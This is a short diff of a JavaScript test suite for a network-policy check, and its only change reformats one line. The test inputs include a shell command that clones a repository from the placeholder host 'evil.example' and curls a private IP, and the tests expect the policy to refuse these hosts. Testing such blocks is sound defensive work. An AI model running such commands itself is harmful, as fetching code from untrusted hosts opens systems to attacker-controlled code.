@@ -100,8 +100,7 @@ describe("a fix under a policy", () => {
       /does not allow/,
     );
     expect(refusal({ script, network: false })).toBeUndefined();
-    const made =
-      `p=\${HTTP_PROXY#http://}; curl "https://$HOST/x" http://localhost:8080/ && git clone git@evil.example:a/b`;
+    const made = `p=\${HTTP_PROXY#http://}; curl "https://$HOST/x" http://localhost:8080/ && git clone git@evil.example:a/b`;
     expect(refusal({ script: made, network: true })).toMatch(/does not allow evil\.example\.$/);
     expect(refusal({ script: "curl http://10.0.0.1/", network: true })).toMatch(/does not allow 10\.0\.0\.1\.$/);
     expect(refusal({ script: "npm install", network: true }, "version: 1\nnetwork: { hosts: [] }\n")).toMatch(
